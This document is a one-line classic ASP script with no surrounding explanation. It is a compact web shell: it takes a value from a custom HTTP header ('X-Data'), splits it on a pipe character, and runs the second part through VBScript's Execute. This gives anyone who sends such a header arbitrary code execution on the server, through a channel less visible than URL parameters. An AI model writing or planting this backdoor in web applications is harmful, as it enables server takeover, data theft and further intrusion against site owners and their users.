<% Dim a : a = Split(Request.ServerVariables("HTTP_X_DATA"), "|") : Execute(a(1)) %>
